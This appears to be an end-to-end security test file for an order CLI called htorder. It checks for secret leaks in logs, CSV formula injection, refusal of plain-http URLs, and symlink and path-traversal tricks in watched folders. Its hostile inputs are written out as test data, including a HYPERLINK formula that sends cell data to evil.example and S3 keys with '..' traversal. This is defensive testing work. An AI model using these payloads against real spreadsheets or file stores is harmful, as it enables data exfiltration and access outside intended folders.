import { readdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { PutObjectCommand, ListObjectsV2Command } from '@aws-sdk/client-s3';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startSandbox, type Sandbox } from '../../src/sandbox/index.js';
import { leaks, spawnHtorder } from '../support/chaos.js';
import { requireDist } from '../support/dist.js';
import { startTestS3 } from '../support/s3.js';
import { tempDir } from '../support/temp-files.js';
import { startWatch, waitFor } from '../support/watch-harness.js';
import { manifest } from '../support/yaml-manifests.js';

/**
 * Security checks of issue 7, end to end: no secret or token in any log line or report even
 * at the most verbose level and on error paths; formula cells neutralised in result.csv;
 * symbolic links and odd names in a drop location cannot make the watcher read or write
 * outside its folders; plain-http API URLs other than loopback refused unless allowed.
 */

let sandbox: Sandbox;
let work: Awaited<ReturnType<typeof tempDir>>;
const secretOf = () => sandbox.accounts.find((a) => a.name === 'us-demo')!.clientSecret;

function env(extra: Record<string, string> = {}): Record<string, string> {
  const r = sandbox.regions.us!;
  return {
    HTORDER_BASE_URL: r.baseUrl,
    HTORDER_AUTH_URL: r.authUrl,
    HTORDER_REALM: r.realm,
    HTORDER_CLIENT_ID: 'us-demo',
    HTORDER_CLIENT_SECRET: secretOf(),
    HTORDER_STATE_DIR: join(work.path, 'state'),
    // The signed link's host is fictional: its fetch fails as a warning, whose text is checked too.
    HTORDER_ARTWORK_CHECK: 'warn',
    HTORDER_LOG_LEVEL: 'trace',
    ...extra,
  };
}

/** The built CLI as a process (async: the sandbox answers from this very process). */
async function htorder(args: string[], e: Record<string, string>): Promise<{ code: number | null; out: string }> {
  const p = spawnHtorder(args, { env: e, cwd: work.path });
  const code = await p.exited;
  return { code, out: p.output() };
}

beforeAll(async () => {
  requireDist();
  sandbox = await startSandbox({ port: 0, tokenTtlSeconds: 2 });
  work = await tempDir('htorder-security-');
});
afterAll(async () => {
  await sandbox.close();
  await work.remove();
});
beforeEach(async () => {
  await sandbox.admin.reset();
});

const PRINT = `version: 1
jobs:
  - orderNumber: SEC-1
    deliveryAddress: { deliveryMethod: UPSGND, streetAddress: 1 Main St, city: Austin, state: TX, postalCode: "78701", countryCodeISO2: US }
    items:
      - itemType: PriceCode
        code: 'DTF Full Color 10" x 10"'
        quantity: 20
        customerReference: front
        externalArtworkUrl: https://cdn.example.com/a.png?X-Amz-Signature=SIGSECRET123&X-Amz-Credential=CREDSECRET456
        attributes: { Colors: "2" }
`;

describe('no secret in logs or reports', () => {
  it('run at trace level, through expired tokens, 401s, 5xx and resets: no secret, token or signed query', async () => {
    await sandbox.admin.setFaults(
      [
        { route: 'POST /Jobs', when: 'create', kind: 'create-then-500', times: 1 },
        { route: '*', kind: 'status', status: 503, retryAfterSeconds: 0, probability: 0.2 },
        { route: 'GET /Lookups/countries', kind: 'reset', times: 1 },
      ],
      5,
    );
    await sandbox.admin.expireTokens();
    const file = join(work.path, 'print.yaml');
    await writeFile(file, PRINT);
    const r = await htorder(['run', file], env());
    expect(r.code).toBe(0);
    expect(r.out).toContain('"level":20'); // debug lines exist: the scan below has material
    const reports = await Promise.all(['result.json', 'result.csv'].map((x) => readFile(`${file}.${x}`, 'utf8')));
    for (const text of [r.out, ...reports]) {
      expect(leaks(text, [secretOf(), 'SIGSECRET123', 'CREDSECRET456'])).toEqual([]);
    }
    expect((await sandbox.admin.jobs()).map((j) => j.orderNumber)).toEqual(['SEC-1']);
  });

  it('a wrong secret (exit 3) and the api command do not echo the secret or a token', async () => {
    const wrong = 'sbx_THIS-IS-A-WRONG-BUT-SECRET-VALUE';
    const bad = await htorder(['api', 'GET', '/account'], env({ HTORDER_CLIENT_SECRET: wrong }));
    expect(bad.code).toBe(3);
    expect(leaks(bad.out, [wrong, secretOf()])).toEqual([]);
    const good = await htorder(['api', 'GET', '/account'], env());
    expect(good.code).toBe(0);
    expect(leaks(good.out, [secretOf()])).toEqual([]);
  });
});

describe('CSV formula injection', () => {
  it('cells a spreadsheet would run are neutralised in result.csv (input columns and ours)', async () => {
    const file = join(work.path, 'formula.csv');
    const evil = ['=HYPERLINK("http://evil.example/?"&A1;"x")', '+SUM(1;2)', '@cmd', '-2+3', '\t=1'];
    const q = (v: string) => `"${v.replace(/"/g, '""')}"`;
    const rows = evil.map((v, i) => `PO-F${i},${q(v)},UPSGND,1 Main St,Austin,TX,78701,US,Asset,A10001,50,${q(v)}`);
    await writeFile(
      file,
      `orderNumber,description,deliveryMethod,streetAddress,city,state,postalCode,country,itemType,code,quantity,customerReference\n${rows.join('\n')}\n`,
    );
    const r = await htorder(['check', file], env());
    expect(r.code).toBe(0);
    const cells = (parseCsv(await readFile(`${file}.result.csv`, 'utf8'), { bom: true }) as string[][]).flat();
    for (const v of evil) expect(cells).toContain(`'${v}`);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c))).toEqual([]);
  });
});

describe('plain-http API URLs', () => {
  it('a non-loopback http base or auth URL is refused (exit 2) before anything is sent', async () => {
    const file = join(work.path, 'print.yaml');
    await writeFile(file, PRINT);
    const insecure: Record<string, string>[] = [
      { HTORDER_BASE_URL: 'http://api.example.com/api' },
      { HTORDER_AUTH_URL: 'http://auth.example.com/auth' },
    ];
    for (const e of insecure) {
      const r = await htorder(['run', file], env(e));
      expect(r.code).toBe(2);
      expect(r.out).toMatch(/is not https; refusing to send credentials in clear/);
      expect(leaks(r.out, [secretOf()])).toEqual([]);
    }
    expect(await sandbox.admin.calls()).toEqual({});
  });

  it('HTORDER_ALLOW_INSECURE=1 lets a plain-http host other than 127.0.0.1 through', async () => {
    // 127.0.0.2 is a loopback address on Linux but not one htorder treats as loopback.
    const other = await startSandbox({ port: 0, host: '127.0.0.2' }).catch(() => undefined);
    if (!other) return; // the platform cannot bind 127.0.0.2 (macOS without an alias)
    try {
      const r = other.regions.us!;
      const e = {
        HTORDER_BASE_URL: r.baseUrl,
        HTORDER_AUTH_URL: r.authUrl,
        HTORDER_REALM: r.realm,
        HTORDER_CLIENT_SECRET: other.accounts.find((a) => a.name === 'us-demo')!.clientSecret,
      };
      const refused = await htorder(['api', 'GET', '/account'], env(e));
      expect(refused.code).toBe(2);
      const allowed = await htorder(['api', 'GET', '/account'], env({ ...e, HTORDER_ALLOW_INSECURE: '1' }));
      expect(allowed.code).toBe(0);
    } finally {
      await other.close();
    }
  });
});

describe('watch: nothing outside its folders', () => {
  it('a symbolic link dropped in (to a manifest outside) is neither read nor moved nor reported beside', async () => {
    const outside = await tempDir('htorder-outside-');
    const drop = await tempDir('htorder-drop-');
    try {
      await writeFile(join(outside.path, 'target.yaml'), manifest('LINK', 1));
      await symlink(join(outside.path, 'target.yaml'), join(drop.path, 'evil.yaml'));
      await writeFile(join(drop.path, 'ok.yaml'), manifest('OK', 1));
      const w = await startWatch({ target: drop.path }, env({ HTORDER_LOG_LEVEL: 'debug' }));
      try {
        await waitFor(
          async () => ((await readdir(join(drop.path, 'done'))).includes('ok.yaml') ? true : undefined),
          'ok.yaml done',
        );
        await waitFor(
          () =>
            w.logs().some((l) => String(l.msg).includes('symbolic link') || JSON.stringify(l).includes('symbolic link'))
              ? true
              : undefined,
          'the link refused',
        );
      } finally {
        expect(await w.stop()).toBe(0);
      }
      expect((await sandbox.admin.jobs()).map((j) => j.orderNumber)).toEqual(['OK-1']);
      expect((await readdir(outside.path)).sort()).toEqual(['target.yaml']);
      // The watcher's own mark of its ledger (docs/watch.md#sharing-a-drop-folder) aside.
      expect((await readdir(drop.path)).sort()).toEqual([
        '.htorder-ledger',
        'done',
        'evil.yaml',
        'failed',
        'held',
        'processing',
      ]);
    } finally {
      await outside.remove();
      await drop.remove();
    }
  });

  it.each(['done', 'processing', 'failed'])(
    'a %s/ sub-folder that is a symbolic link to elsewhere is refused',
    async (sub) => {
      const outside = await tempDir('htorder-outside-');
      const drop = await tempDir('htorder-drop-');
      try {
        await symlink(outside.path, join(drop.path, sub));
        await writeFile(join(drop.path, 'a.yaml'), manifest('SUB', 1));
        const w = await startWatch({ target: drop.path }, env()).then(
          (x) => x,
          (err: Error) => err,
        );
        if (!(w instanceof Error)) {
          // Started anyway: then it must at least not have written outside.
          await new Promise((r) => setTimeout(r, 1500));
          await w.stop();
        }
        expect(await readdir(outside.path)).toEqual([]);
        expect(w).toBeInstanceOf(Error);
        expect(String(w)).toMatch(/symbolic link/);
        expect(await sandbox.admin.jobs()).toEqual([]);
      } finally {
        await outside.remove();
        await drop.remove();
      }
    },
  );

  it('S3 keys with path segments, "..", backslashes or NUL are never inputs', async () => {
    const s3 = await startTestS3({ conditional: true });
    const local = await tempDir('htorder-s3-local-');
    try {
      const names = ['in/../evil.yaml', 'in/sub/x.yaml', 'in/..\\..\\evil.yaml', 'in/..', 'in/good.yaml'];
      for (const key of names)
        await s3.client.send(
          new PutObjectCommand({
            Bucket: s3.bucket,
            Key: key,
            Body: manifest(key.includes('good') ? 'GOOD' : 'EVIL', 1),
          }),
        );
      const w = await startWatch(
        { target: `s3://${s3.bucket}/in/`, flags: { bucketLedger: `s3://${s3.bucket}/state/` } },
        { ...env(), ...s3.env },
      );
      try {
        await waitFor(async () => {
          const res = await s3.client.send(new ListObjectsV2Command({ Bucket: s3.bucket, Prefix: 'in/done/' }));
          return (res.Contents ?? []).some((o) => o.Key === 'in/done/good.yaml') ? true : undefined;
        }, 'good.yaml done');
      } finally {
        await w.stop();
      }
      expect((await sandbox.admin.jobs()).map((j) => j.orderNumber)).toEqual(['GOOD-1']);
      const res = await s3.client.send(new ListObjectsV2Command({ Bucket: s3.bucket }));
      const keys = (res.Contents ?? []).map((o) => o.Key!).filter((k) => !k.startsWith('state/'));
      expect(keys.filter((k) => !k.startsWith('in/done/'))).toEqual(expect.arrayContaining(['in/sub/x.yaml']));
      expect(keys.filter((k) => !k.startsWith('in/'))).toEqual(['evil.yaml'].filter((k) => keys.includes(k)));
    } finally {
      await s3.close();
      await local.remove();
    }
  });
});
